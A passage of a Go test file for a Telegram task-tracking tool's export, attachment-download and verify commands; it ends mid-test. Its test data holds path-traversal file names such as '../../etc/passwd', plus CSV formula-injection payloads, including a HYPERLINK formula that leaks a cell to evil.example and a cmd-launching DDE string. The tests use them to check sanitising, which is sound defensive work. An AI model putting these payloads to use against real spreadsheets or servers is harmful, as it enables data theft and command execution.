package main

import (
	"bytes"
	"context"
	"database/sql"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf8"

	goredis "github.com/redis/go-redis/v9"

	"github.com/duban/duban/config"
	"github.com/duban/duban/i18n"
	"github.com/duban/duban/internal/telegramtest"
	"github.com/duban/duban/record"
	"github.com/duban/duban/store"
	"github.com/duban/duban/store/redis/redistest"
	"github.com/duban/duban/workbook"
)

// exportConfig writes a config.yaml for the shipped plan with its own store: the embedded
// file in a temporary folder, or Redis under a fresh prefix.
func exportConfig(tb testing.TB, redisURL, prefix string) string {
	tb.Helper()
	raw, err := os.ReadFile("config.yaml")
	if err != nil {
		tb.Fatal(err)
	}
	tasks, _ := filepath.Abs("tasks.yaml")
	dir := tb.TempDir()
	text := strings.Replace(string(raw), "tasks: tasks.yaml", "tasks: "+tasks, 1)
	text = strings.Replace(text, `prefix: "duban:"`, `prefix: "`+prefix+`"`, 1)
	text = strings.Replace(text, `url: ""  `, `url: "`+redisURL+`"  `, 1)
	path := filepath.Join(dir, "config.yaml")
	if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
		tb.Fatal(err)
	}
	return path
}

type exportJSON struct {
	Tasks []struct {
		ID          int    `json:"id"`
		Deadline    string `json:"deadline"`
		Departments []struct {
			Name    string       `json:"name"`
			Lead    bool         `json:"lead"`
			Status  store.Status `json:"status"`
			Percent *int         `json:"percent"`
			Color   string       `json:"color"`
			Updates []struct {
				At      string       `json:"at"`
				Text    string       `json:"text"`
				Status  store.Status `json:"status"`
				Percent *int         `json:"percent"`
				By      string       `json:"by"`
				Chat    int64        `json:"chat"`
			} `json:"updates"`
		} `json:"departments"`
	} `json:"tasks"`
}

// TestExportWhileWriting runs duban export again and again while a writer (standing in for the
// daemon) keeps recording, on both stores: every export must be whole and consistent.
func TestExportWhileWriting(t *testing.T) {
	for _, st := range storesUnderTest(t) {
		t.Run(st.name, func(t *testing.T) {
			path, c := storeConfig(t, st.url)
			ctx, cancel := context.WithCancel(context.Background())
			defer cancel()
			writer := openWriter(t, ctx, c)
			defer writer.Close()
			pct := 60
			first := store.Update{Task: 16, Department: "市教育局", At: time.Date(2026, 12, 1, 1, 0, 0, 0, time.UTC), ChatID: -1001,
				UserName: "王五", Text: "进行中 60%，\"方案\"已报, 含逗号", Status: store.StatusInProgress, Percent: &pct, Source: store.SourceReply}
			if _, _, err := writer.Record(ctx, 1, []store.Update{first}); err != nil {
				t.Fatal(err)
			}

			var written atomic.Int64
			written.Store(1)
			var wg sync.WaitGroup
			wg.Add(1)
			go func() { // the daemon, recording all along
				defer wg.Done()
				for i := int64(2); ctx.Err() == nil && i < 2000; i++ {
					u := store.Update{Task: 30, Department: "市教育局", At: time.Now(), ChatID: -1001, Text: "note", Source: store.SourceReply}
					if _, _, err := writer.Record(ctx, i, []store.Update{u}); err != nil {
						if ctx.Err() == nil {
							t.Errorf("writer: %v", err)
						}
						return
					}
					written.Add(1)
				}
			}()

			var lastTask30 int
			for round := 0; round < 5; round++ {
				code, out, errOut := runCLI(t, "export", "-config", path, "-all")
				if code != exitOK {
					t.Fatalf("export: exit %d: %s", code, errOut)
				}
				var got exportJSON
				if err := json.Unmarshal([]byte(out), &got); err != nil {
					t.Fatalf("export JSON: %v", err)
				}
				if len(got.Tasks) != 50 {
					t.Fatalf("export: got %d tasks, want 50", len(got.Tasks))
				}
				t16 := got.Tasks[15]
				d := t16.Departments[0]
				if t16.ID != 16 || t16.Deadline != "2021-12-31" || d.Name != "市教育局" || !d.Lead || d.Status != store.StatusInProgress ||
					*d.Percent != 60 || len(d.Updates) != 1 || d.Updates[0].Text != first.Text || d.Updates[0].At != "2026-12-01T09:00:00+08:00" ||
					d.Updates[0].By != "王五" || d.Updates[0].Chat != -1001 || d.Color != "red" {
					t.Fatalf("task 16 in the export: got %+v", t16)
				}
				n := len(got.Tasks[29].Departments[0].Updates)
				if n < lastTask30 {
					t.Errorf("round %d: task 30 has %d updates, fewer than the %d of the export before", round, n, lastTask30)
				}
				lastTask30 = n
				// A department that never reported is not_started with an empty list, not null.
				if other := got.Tasks[0].Departments[0]; other.Status != store.StatusNotStarted || other.Updates == nil || len(other.Updates) != 0 {
					t.Errorf("a silent department: got %+v, want not_started and []", other)
				}
			}

			code, out, errOut := runCLI(t, "export", "-config", path, "-format", "csv")
			if code != exitOK {
				t.Fatalf("export csv: exit %d: %s", code, errOut)
			}
			if !strings.HasPrefix(out, "\ufeff") {
				t.Error("CSV: no UTF-8 byte order mark, Excel would show mojibake")
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatalf("CSV: %v", err)
			}
			if want := "序号,重点工作,任务目标,责任部门,状态,进度(%),最近报送时间,最近报送内容,完成时限,剩余天数(负数为逾期),预警"; strings.Join(rows[0], ",") != want {
				t.Errorf("CSV header: got %q, want %q", strings.Join(rows[0], ","), want)
			}
			_, p, _ := config.Load(path)
			wantRows := 1
			for _, task := range p.Tasks {
				wantRows += len(task.Responsible)
			}
			if len(rows) != wantRows {
				t.Errorf("CSV: got %d rows, want %d (a header and one per task and department)", len(rows), wantRows)
			}
			var row16 []string
			for _, r := range rows {
				if r[0] == "16" && r[3] == "市教育局" {
					row16 = r
				}
			}
			if strings.Join(row16[:9], "|") != "16|深化产教融合校企合作协同育人|促进产教深度融合|市教育局|进行中|60|2026-12-01 09:00|"+first.Text+"|2021-12-31" {
				t.Errorf("CSV row of task 16: got %q", row16)
			}
			if row16[10] != "红色（逾期）" {
				t.Errorf("CSV warning of task 16: got %q, want 红色（逾期） (the deadline passed in 2021)", row16[10])
			}
			cancel()
			wg.Wait()
			if written.Load() < 2 {
				t.Error("the writer recorded nothing during the exports: the test did not test concurrency")
			}
		})
	}
}

func TestExportUsage(t *testing.T) {
	code, _, errOut := runCLI(t, "export", "-format", "xml")
	if code != exitUsage || !strings.Contains(errOut, `export: -format: want json or csv, got "xml"`) {
		t.Errorf("got exit %d, %q; want 2 naming the flag", code, errOut)
	}
}

// recordAll records ups, in order, into the store of the config at path, as the daemon would.
func recordAll(tb testing.TB, path string, ups ...store.Update) []store.Update {
	tb.Helper()
	c, err := config.LoadConfig(path)
	if err != nil {
		tb.Fatal(err)
	}
	return recordFrom(tb, c, 100, ups...)
}

// openWriter opens the store of c as the daemon does: it takes the lock on the embedded file.
func openWriter(tb testing.TB, ctx context.Context, c *config.Config) backend {
	tb.Helper()
	w, err := openStore(ctx, c, false)
	if err != nil {
		tb.Fatal(err)
	}
	return w
}

// recordFrom records ups in the store of c, one Telegram update each, numbered from first.
func recordFrom(tb testing.TB, c *config.Config, first int64, ups ...store.Update) []store.Update {
	tb.Helper()
	ctx := context.Background()
	w := openWriter(tb, ctx, c)
	defer w.Close()
	var out []store.Update
	for i, u := range ups {
		got, _, err := w.Record(ctx, first+int64(i), []store.Update{u})
		if err != nil {
			tb.Fatalf("record %d: %v", i, err)
		}
		out = append(out, got...)
	}
	return out
}

// storesUnderTest are the embedded store and, when the test command gives one, Redis.
func storesUnderTest(tb testing.TB) []struct{ name, url string } {
	tb.Helper()
	stores := []struct{ name, url string }{{"sqlite", ""}}
	if url, ok := redistest.URL(tb); ok {
		stores = append(stores, struct{ name, url string }{"redis", url})
	}
	return stores
}

func prefixFor(tb testing.TB, url string) string {
	if url == "" {
		return "duban:"
	}
	return redistest.Prefix(tb, url)
}

// storeConfig writes a config.yaml for the store at url (the embedded one when it is empty,
// Redis under a fresh prefix otherwise), and loads it.
func storeConfig(tb testing.TB, url string) (string, *config.Config) {
	tb.Helper()
	path := exportConfig(tb, url, prefixFor(tb, url))
	c, _, err := config.Load(path)
	if err != nil {
		tb.Fatal(err)
	}
	return path, c
}

func attachedUpdate(task int, text string, a *store.Attachment) store.Update {
	return store.Update{Task: task, Department: "市教育局", At: time.Date(2026, 12, 1, 1, 0, 0, 0, time.UTC), ChatID: -1001,
		UserName: "王五", Text: text, Source: store.SourceReply, Attachment: a}
}

// TestExportShowsAttachments: the JSON has the attachment object on the update that came with
// a file and none on the others; the CSV names the file after the words, by its kind when it
// has no name.
func TestExportShowsAttachments(t *testing.T) {
	doc := &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAIB", FileUniqueID: "AgADbw8AAphYEVU",
		FileName: "用地指标批复.pdf", MimeType: "application/pdf", Size: 48213}
	photo := &store.Attachment{Kind: "photo", FileID: "AgACAgUAAxkBAAIC", FileUniqueID: "AQADxbwxG5hYEVV-", Size: 9120}
	formula := &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAID", FileUniqueID: "AgADcA8AAphYEVU", FileName: "=HYPERLINK(1).xlsx"}
	for _, st := range storesUnderTest(t) {
		t.Run(st.name, func(t *testing.T) {
			path := exportConfig(t, st.url, prefixFor(t, st.url))
			recordAll(t, path,
				attachedUpdate(16, "批复已下达", doc),
				attachedUpdate(16, "", photo),
				attachedUpdate(16, "无附件", nil),
				attachedUpdate(19, "", formula),
			)
			code, out, errOut := runCLI(t, "export", "-config", path, "-all")
			if code != exitOK {
				t.Fatalf("export: exit %d: %s", code, errOut)
			}
			var got struct {
				Tasks []struct {
					ID          int `json:"id"`
					Departments []struct {
						Name    string `json:"name"`
						Updates []struct {
							ID         string           `json:"id"`
							Text       string           `json:"text"`
							Attachment *json.RawMessage `json:"attachment"`
						} `json:"updates"`
					} `json:"departments"`
				} `json:"tasks"`
			}
			if err := json.Unmarshal([]byte(out), &got); err != nil {
				t.Fatal(err)
			}
			ups := got.Tasks[15].Departments[0].Updates
			wantJSON := []string{
				`{"kind":"document","file_id":"BQACAgUAAxkBAAIB","file_unique_id":"AgADbw8AAphYEVU","file_name":"用地指标批复.pdf","mime_type":"application/pdf","size":48213}`,
				`{"kind":"photo","file_id":"AgACAgUAAxkBAAIC","file_unique_id":"AQADxbwxG5hYEVV-","file_name":"","mime_type":"","size":9120}`,
				"",
			}
			if len(ups) != len(wantJSON) {
				t.Fatalf("task 16: got %d updates, want %d", len(ups), len(wantJSON))
			}
			for i, want := range wantJSON {
				var gotJSON string
				if ups[i].Attachment != nil {
					var compact bytes.Buffer
					_ = json.Compact(&compact, *ups[i].Attachment)
					gotJSON = compact.String()
				}
				if gotJSON != want {
					t.Errorf("update %s: got attachment %s, want %s", ups[i].ID, gotJSON, want)
				}
			}
			if strings.Contains(out, `"attachment": null`) {
				t.Errorf("export: got a null attachment, want none on an update without a file")
			}

			code, out, errOut = runCLI(t, "export", "-config", path, "-all", "-format", "csv")
			if code != exitOK {
				t.Fatalf("export csv: exit %d: %s", code, errOut)
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var texts []string
			for _, r := range rows {
				if (r[0] == "16" || r[0] == "19") && r[3] == "市教育局" {
					texts = append(texts, r[7])
				}
			}
			want := []string{"批复已下达 📎 用地指标批复.pdf", "📎 图片", "无附件", "📎 =HYPERLINK(1).xlsx"}
			if strings.Join(texts, "|") != strings.Join(want, "|") {
				t.Errorf("CSV 最近报送内容: got %q, want %q", texts, want)
			}
		})
	}
}

func TestCSVText(t *testing.T) {
	tests := []struct {
		lang, text string
		a          *store.Attachment
		want       string
	}{
		{"zh", "进行中 60%", nil, "进行中 60%"},
		{"zh", "", nil, ""},
		{"zh", "批复见附件", &store.Attachment{Kind: "document", FileName: "用地指标批复.pdf"}, "批复见附件 📎 用地指标批复.pdf"},
		{"zh", "", &store.Attachment{Kind: "photo"}, "📎 图片"},
		{"zh", "", &store.Attachment{Kind: "voice"}, "📎 语音"},
		{"zh", "", &store.Attachment{Kind: "document"}, "📎 文件"},
		{"en", "", &store.Attachment{Kind: "photo"}, "📎 photo"},
		{"en", "see file", &store.Attachment{Kind: "voice", FileName: "a<b>.ogg"}, "see file 📎 a<b>.ogg"},
	}
	for _, tt := range tests {
		u := store.Update{Text: tt.text, Attachment: tt.a}
		if got := workbook.ReportText(i18n.For(tt.lang), u); got != tt.want {
			t.Errorf("%s %q %+v: got %q, want %q", tt.lang, tt.text, tt.a, got, tt.want)
		}
	}
}

func TestLocalFileName(t *testing.T) {
	long := strings.Repeat("关于职业教育产教融合的报告", 10) + ".pdf" // 364 bytes
	tests := []struct {
		name string
		a    store.Attachment
		want string
	}{
		{"plain", store.Attachment{Kind: "document", FileName: "用地指标批复.pdf"}, "16-3-用地指标批复.pdf"},
		{"spaces kept", store.Attachment{Kind: "document", FileName: "2025 年 工作 方案.docx"}, "16-3-2025 年 工作 方案.docx"},
		{"photo", store.Attachment{Kind: "photo"}, "16-3-photo.jpg"},
		{"voice", store.Attachment{Kind: "voice"}, "16-3-voice.ogg"},
		{"video note", store.Attachment{Kind: "video_note"}, "16-3-video_note.mp4"},
		{"document without a name", store.Attachment{Kind: "document"}, "16-3-document"},
		{"path up", store.Attachment{Kind: "document", FileName: "../../etc/passwd"}, "16-3-____etc_passwd"},
		{"absolute", store.Attachment{Kind: "document", FileName: "/etc/cron.d/x"}, "16-3-_etc_cron.d_x"},
		{"windows path", store.Attachment{Kind: "document", FileName: `C:\Users\a\b.pdf`}, "16-3-C__Users_a_b.pdf"},
		{"only dots", store.Attachment{Kind: "document", FileName: ".."}, "16-3-_"},
		{"one dot", store.Attachment{Kind: "document", FileName: "."}, "16-3-_"},
		{"three dots", store.Attachment{Kind: "document", FileName: "a...pdf"}, "16-3-a_.pdf"},
		{"control characters", store.Attachment{Kind: "document", FileName: "a\nb\x00c\x1b.pdf"}, "16-3-a_b_c_.pdf"},
		{"windows-reserved characters", store.Attachment{Kind: "document", FileName: `a<b>c:d"e|f?g*h.pdf`}, "16-3-a_b_c_d_e_f_g_h.pdf"},
		{"hidden file", store.Attachment{Kind: "document", FileName: ".bashrc"}, "16-3-.bashrc"},
		{"long name cut, extension kept", store.Attachment{Kind: "document", FileName: long}, "16-3-" + long[:195] + ".pdf"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := localFileName(store.Update{Task: 16, Seq: 3, Attachment: &tt.a})
			if got != tt.want {
				t.Errorf("got %q, want %q", got, tt.want)
			}
			if strings.ContainsAny(got, `/\`) || strings.Contains(got, "..") || !utf8.ValidString(got) || len(got) > 255 {
				t.Errorf("got %q: want no separators, no .., valid UTF-8, at most 255 bytes", got)
			}
		})
	}
}

// TestExportFiles runs `duban export -files` against the fake Bot API on both stores: every
// attached file is fetched with getFile into the folder, byte for byte; a file Telegram does
// not have fails on its own line and the run exits 1; a second run fetches nothing it has;
// the token never shows.
func TestExportFiles(t *testing.T) {
	for _, st := range storesUnderTest(t) {
		t.Run(st.name, func(t *testing.T) {
			srv := telegramtest.New(t, telegramtest.WithoutLimits())
			chat := telegramtest.GroupChat(1001, "市教育局")
			clerk := telegramtest.NewUser(2001, "王五")
			pdf := []byte("%PDF-1.7\n用地指标批复\n%%EOF\n")
			jpeg := bytes.Repeat([]byte{0xff, 0xd8, 0x01}, 300)
			ogg := []byte("OggS\x00\x02 voice")
			docMsg := srv.SendDocument(chat, clerk, 0, "用地指标批复.pdf", "application/pdf", pdf, "批复见附件")
			photoMsg := srv.SendPhoto(chat, clerk, 0, jpeg, "")
			evilMsg := srv.SendDocument(chat, clerk, 0, "../../etc/passwd", "text/plain", []byte("root:x:0:0"), "")
			voiceMsg := srv.SendVoice(chat, clerk, 0, ogg, 2, "")
			d, p, e, v := docMsg.Document, photoMsg.Photo[0], evilMsg.Document, voiceMsg.Voice

			path := exportConfig(t, st.url, prefixFor(t, st.url))
			recordAll(t, path,
				attachedUpdate(16, "批复见附件", &store.Attachment{Kind: "document", FileID: d.FileID, FileUniqueID: d.FileUniqueID,
					FileName: d.FileName, MimeType: d.MimeType, Size: d.FileSize}),
				attachedUpdate(16, "", &store.Attachment{Kind: "photo", FileID: p.FileID, FileUniqueID: p.FileUniqueID, Size: int64(p.FileSize)}),
				attachedUpdate(16, "无附件", nil),
				attachedUpdate(21, "", &store.Attachment{Kind: "document", FileID: e.FileID, FileUniqueID: e.FileUniqueID, FileName: e.FileName, Size: e.FileSize}),
				attachedUpdate(21, "", &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAgone", FileUniqueID: "AgADgone", FileName: "丢失.pdf"}),
				// Size 0: Telegram did not say, so getFile tells.
				attachedUpdate(30, "", &store.Attachment{Kind: "voice", FileID: v.FileID, FileUniqueID: v.FileUniqueID, MimeType: "audio/ogg"}),
			)
			dir := filepath.Join(t.TempDir(), "files")
			t.Setenv("TELEGRAM_BOT_TOKEN", srv.Token())
			t.Setenv("TELEGRAM_API_URL", srv.URL())

			code, out, errOut := runCLI(t, "export", "-config", path, "-files", dir)
			if code != exitFailure || !strings.Contains(errOut, "1 of 5 file(s) could not be downloaded") {
				t.Errorf("first run: got exit %d, stderr %q; want 1 and one failure of 5", code, errOut)
			}
			wantLines := []string{
				"16-1: " + filepath.Join(dir, "16-1-用地指标批复.pdf") + " (" + itoa(len(pdf)) + " bytes)",
				"16-2: " + filepath.Join(dir, "16-2-photo.jpg") + " (" + itoa(len(jpeg)) + " bytes)",
				"21-1: " + filepath.Join(dir, "21-1-____etc_passwd") + " (10 bytes)",
				"21-2: failed: getFile: bad request, Bad Request: invalid file_id",
				"30-1: " + filepath.Join(dir, "30-1-voice.ogg") + " (" + itoa(len(ogg)) + " bytes)",
				"5 attached file(s): 4 downloaded, 0 already there, 1 failed",
			}
			if got := strings.TrimSpace(out); got != strings.Join(wantLines, "\n") {
				t.Errorf("first run: got\n%s\nwant\n%s", got, strings.Join(wantLines, "\n"))
			}
			wantFiles := map[string][]byte{
				"16-1-用地指标批复.pdf": pdf, "16-2-photo.jpg": jpeg, "21-1-____etc_passwd": []byte("root:x:0:0"), "30-1-voice.ogg": ogg,
			}
			checkDir(t, dir, wantFiles)
			for _, s := range []string{out, errOut} {
				if strings.Contains(s, srv.Token()) {
					t.Errorf("output shows the token: %q", s)
				}
			}

			// The second run asks Telegram only about what it cannot tell is there already: the
			// voice message (no recorded size) and the file that failed.
			downloads, getFiles := len(srv.Downloads()), srv.Calls("getFile")
			code, out, _ = runCLI(t, "export", "-config", path, "-files", dir)
			if code != exitFailure || !strings.Contains(out, "16-1: "+filepath.Join(dir, "16-1-用地指标批复.pdf")+" already there ("+itoa(len(pdf))+" bytes)") ||
				!strings.Contains(out, "30-1: "+filepath.Join(dir, "30-1-voice.ogg")+" already there") ||
				!strings.Contains(out, "5 attached file(s): 0 downloaded, 4 already there, 1 failed") {
				t.Errorf("second run: got exit %d and\n%s\nwant 1, every file already there but the lost one", code, out)
			}
			if got := len(srv.Downloads()) - downloads; got != 0 {
				t.Errorf("second run: got %d downloads, want none", got)
			}
			if got := srv.Calls("getFile") - getFiles; got != 2 {
				t.Errorf("second run: got %d getFile calls, want 2 (the voice message, the lost file)", got)
			}
			checkDir(t, dir, wantFiles)

			// A file cut short or changed on disk is fetched again.
			if err := os.WriteFile(filepath.Join(dir, "16-1-用地指标批复.pdf"), pdf[:5], 0o600); err != nil {
				t.Fatal(err)
			}
			if code, out, _ = runCLI(t, "export", "-config", path, "-files", dir); !strings.Contains(out, "1 downloaded, 3 already there, 1 failed") {
				t.Errorf("run after a file was cut: got exit %d and\n%s\nwant it fetched again", code, out)
			}
			checkDir(t, dir, wantFiles)
		})
	}
}

func itoa(n int) string { return strconv.Itoa(n) }

// checkDir fails tb unless dir holds exactly want, byte for byte.
func checkDir(tb testing.TB, dir string, want map[string][]byte) {
	tb.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil {
		tb.Fatal(err)
	}
	if len(entries) != len(want) {
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		tb.Errorf("%s: got files %q, want %d", dir, names, len(want))
	}
	for name, content := range want {
		got, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil || !bytes.Equal(got, content) {
			tb.Errorf("%s: got %q, %v; want %q", name, got, err, content)
		}
	}
}

// TestExportFilesFailures: the token is refused, or Telegram cannot be reached, or the call is
// wrong; each says so, exits as documented and never prints the token.
func TestExportFilesFailures(t *testing.T) {
	srv := telegramtest.New(t, telegramtest.WithoutLimits())
	msg := srv.SendDocument(telegramtest.GroupChat(1001, "g"), telegramtest.NewUser(2001, "王五"), 0, "a.pdf", "application/pdf", []byte("pdf"), "")
	path := exportConfig(t, "", "duban:")
	a := &store.Attachment{Kind: "document", FileID: msg.Document.FileID, FileUniqueID: msg.Document.FileUniqueID, FileName: "a.pdf", Size: 3}
	recordAll(t, path, attachedUpdate(16, "", a), attachedUpdate(17, "", a))
	closed := httptest.NewServer(http.NotFoundHandler())
	closed.Close() // nothing listens there any more
	// cutting passes Bot API calls on to the fake and drops every download: the HTTP client's
	// error then holds the file URL, token and all.
	fake, _ := url.Parse(srv.URL())
	proxy := httputil.NewSingleHostReverseProxy(fake)
	cutting := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if strings.HasPrefix(r.URL.Path, "/file/") {
			conn, _, err := http.NewResponseController(w).Hijack()
			if err == nil {
				conn.Close()
			}
			return
		}
		proxy.ServeHTTP(w, r)
	}))
	defer cutting.Close()

	tests := []struct {
		name       string
		token, api string
		args       []string
		wantCode   int
		wantOut    string // in stdout
		wantErr    string // in stderr
	}{
		{"token refused", "999:WRONG-SECRET", srv.URL(), nil, exitFailure, "",
			"export -files: update 16-1: telegram refused telegram.token (401 Unauthorized)"},
		{"telegram unreachable", srv.Token(), closed.URL, nil, exitFailure,
			"16-1: failed: getFile: error do request for method getFile, Post \"" + closed.URL + "/bot***/getFile\"",
			"2 of 2 file(s) could not be downloaded"},
		{"download cut off", srv.Token(), cutting.URL, nil, exitFailure,
			"16-1: failed: download: Get \"" + cutting.URL + "/file/bot***/documents/",
			"2 of 2 file(s) could not be downloaded"},
		{"no token", "", srv.URL(), nil, exitUsage, "", "export -files: telegram.token is empty: set TELEGRAM_BOT_TOKEN"},
		{"with -format", srv.Token(), srv.URL(), []string{"-format", "csv"}, exitUsage, "",
			"export: -files downloads the attached files and prints no record: drop -format"},
		{"with -all", srv.Token(), srv.URL(), []string{"-all"}, exitUsage, "", "drop -all"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Setenv("TELEGRAM_BOT_TOKEN", tt.token)
			t.Setenv("TELEGRAM_API_URL", tt.api)
			args := append([]string{"export", "-config", path, "-files", t.TempDir()}, tt.args...)
			code, out, errOut := runCLI(t, args...)
			if code != tt.wantCode || !strings.Contains(out, tt.wantOut) || !strings.Contains(errOut, tt.wantErr) {
				t.Errorf("got exit %d, stdout %q, stderr %q; want %d, %q, %q", code, out, errOut, tt.wantCode, tt.wantOut, tt.wantErr)
			}
			for _, secret := range []string{srv.Token(), "WRONG-SECRET", "TEST-TOKEN"} {
				if strings.Contains(out+errOut, secret) {
					t.Errorf("output shows the token %q: %q %q", secret, out, errOut)
				}
			}
		})
	}
}

// TestVerifyFindsAlteredAttachment: the file an update came with is under the hash, so
// `duban verify` names the update whose attachment was renamed behind the store's back.
func TestVerifyFindsAlteredAttachment(t *testing.T) {
	rename := map[string]func(tb testing.TB, c *config.Config){
		"sqlite": func(tb testing.TB, c *config.Config) {
			db, err := sql.Open("sqlite", c.StorePath())
			if err != nil {
				tb.Fatal(err)
			}
			defer db.Close()
			if _, err := db.Exec(`UPDATE updates SET attachment_file_name = '已批复.pdf' WHERE task = 16 AND seq = 2`); err != nil {
				tb.Fatal(err)
			}
		},
		// A stream entry cannot be edited in place: the chain is rewritten with the entry changed.
		"redis": func(tb testing.TB, c *config.Config) {
			opts, _ := goredis.ParseURL(c.Store.URL)
			rc := goredis.NewClient(opts)
			defer rc.Close()
			ctx := context.Background()
			key := "{" + c.Store.Prefix + "}:chain:16"
			msgs, err := rc.XRange(ctx, key, "-", "+").Result()
			if err != nil {
				tb.Fatal(err)
			}
			_, err = rc.TxPipelined(ctx, func(p goredis.Pipeliner) error {
				p.Del(ctx, key)
				for _, m := range msgs {
					if m.ID == "2-0" {
						m.Values["attachment"] = strings.Replace(m.Values["attachment"].(string), "用地指标批复.pdf", "已批复.pdf", 1)
					}
					p.XAdd(ctx, &goredis.XAddArgs{Stream: key, ID: m.ID, Values: m.Values})
				}
				return nil
			})
			if err != nil {
				tb.Fatal(err)
			}
		},
	}
	for _, st := range storesUnderTest(t) {
		t.Run(st.name, func(t *testing.T) {
			path := exportConfig(t, st.url, prefixFor(t, st.url))
			doc := &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAIB", FileUniqueID: "AgADbw8AAphYEVU",
				FileName: "用地指标批复.pdf", MimeType: "application/pdf", Size: 48213}
			recordAll(t, path, attachedUpdate(16, "进行中", nil), attachedUpdate(16, "批复见附件", doc), attachedUpdate(16, "", nil))
			if code, out, errOut := runCLI(t, "verify", "-config", path); code != exitOK || !strings.Contains(out, "3 updates checked, 0 problem(s)") {
				t.Fatalf("verify a clean record: got exit %d, %q %q; want 0 and no problems", code, out, errOut)
			}
			c, err := config.LoadConfig(path)
			if err != nil {
				t.Fatal(err)
			}
			rename[st.name](t, c)
			code, out, _ := runCLI(t, "verify", "-config", path)
			if code != exitFailure || !strings.Contains(out, "task 16 seq 2: altered") || !strings.Contains(out, "1 problem(s)") {
				t.Errorf("verify after renaming the attachment: got exit %d, %q; want 1 naming task 16 seq 2", code, out)
			}
		})
	}
}

// formulaTexts begin as Excel, LibreOffice and Sheets read a formula (OWASP's list: = + - @,
// tab and carriage return).
var formulaTexts = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"详情")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1",
}

// TestCSVNeutralisesFormulas: report text that begins like a formula comes out of the CSV
// with a leading ' (so a spreadsheet shows it as text and runs nothing), read back with
// encoding/csv, on both stores; the JSON keeps the words exactly.
func TestCSVNeutralisesFormulas(t *testing.T) {
	for _, st := range storesUnderTest(t) {
		t.Run(st.name, func(t *testing.T) {
			path := exportConfig(t, st.url, prefixFor(t, st.url))
			var ups []store.Update
			for _, text := range formulaTexts {
				ups = append(ups, attachedUpdate(16, text, nil))
			}
			ups = append(ups, attachedUpdate(16, "=附件见下", &store.Attachment{Kind: "document", FileID: "BQACAgUAAxkBAAIE", FileUniqueID: "AgADcQ8AAphYEVU", FileName: "a.pdf"}))
			recordAll(t, path, ups...)

			code, out, errOut := runCLI(t, "export", "-config", path, "-all", "-format", "csv")
			if code != exitOK {
				t.Fatalf("export csv: exit %d: %s", code, errOut)
			}
			rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff"))).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var got []string
			for _, r := range rows {
				if r[0] == "16" && r[3] == "市教育局" {
					got = append(got, r[7])
				}
			}
			var want []string
			for _, text := range formulaTexts {
				// encoding/csv with UseCRLF drops a lone carriage return: the cell is still text.
				want = append(want, "'"+strings.ReplaceAll(text, "\r", ""))
			}
			want = append(want, "'=附件见下 📎 a.pdf")
			if strings.Join(got, "|") != strings.Join(want, "|") {
				t.Errorf("CSV 最近报送内容: got %q, want %q", got, want)
			}

			code, out, errOut = runCLI(t, "export", "-config", path, "-all")
			if code != exitOK {
				t.Fatalf("export: exit %d: %s", code, errOut)
			}
			var doc exportJSON
			if err := json.Unmarshal([]byte(out), &doc); err != nil {
				t.Fatal(err)
			}
			var texts []string
			for _, u := range doc.Tasks[15].Departments[0].Updates {
				texts = append(texts, u.Text)
			}
			if wantJSON := append(formulaTexts[:len(formulaTexts):len(formulaTexts)], "=附件见下"); strings.Join(texts, "|") != strings.Join(wantJSON, "|") {
				t.Errorf("JSON texts: got %q, want %q exactly", texts, wantJSON)
			}
		})
	}
}

// TestCSVNeutralisesEveryTextCell: names and goals come from config.yaml and tasks.yaml, which
// someone may have pasted from anywhere, and a file's name from its sender: every text cell
// is neutralised, the numbers are left as numbers (-3 days left stays -3).
func TestCSVNeutralisesEveryTextCell(t *testing.T) {
	c, err := config.LoadConfigEnv("config.yaml", func(string) (string, bool) { return "", false })
	if err != nil {
		t.Fatal(err)
	}
	pct := 60
	rows := []record.Row{{
		Task:       &config.Task{ID: 7, Area: "=1+1", Goal: "@SUM(A1)"},
		Deadline:   time.Date(2026, 12, 31, 0, 0, 0, 0, c.Location),
		DaysLeft:   -3,
		Department: "+市教育局",
		State:      store.State{Status: store.StatusInProgress, Percent: &pct},
		Updates: []store.Update{{ID: "7-1", At: time.Date(2026, 12, 1, 1, 0, 0, 0, time.UTC), Status: store.StatusInProgress,
			Percent: &pct, Attachment: &store.Attachment{Kind: "document", FileName: "-x.xlsx"}}},
	}}
	var buf bytes.Buffer
	if err := record.WriteCSV(&buf, rows, c, true); err != nil {
		t.Fatal(err)
	}
	got, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(got) != 2 {
		t.Fatalf("got %d rows, want the header and one", len(got))
	}
	row := got[1]
	for i, want := range map[int]string{0: "7", 1: "'=1+1", 2: "'@SUM(A1)", 3: "'+市教育局", 5: "60", 7: "📎 -x.xlsx", 9: "-3"} {
		if row[i] != want {
			t.Errorf("column %d (%s): got %q, want %q", i, got[0][i], row[i], want)
		}
	}
}

func TestCSVCell(t *testing.T) {
	for _, tt := range []struct{ in, want string }{
		{"=1", "'=1"}, {"+1", "'+1"}, {"-1", "'-1"}, {"@a", "'@a"}, {"\t=1", "'\t=1"}, {"\r=1", "'\r=1"},
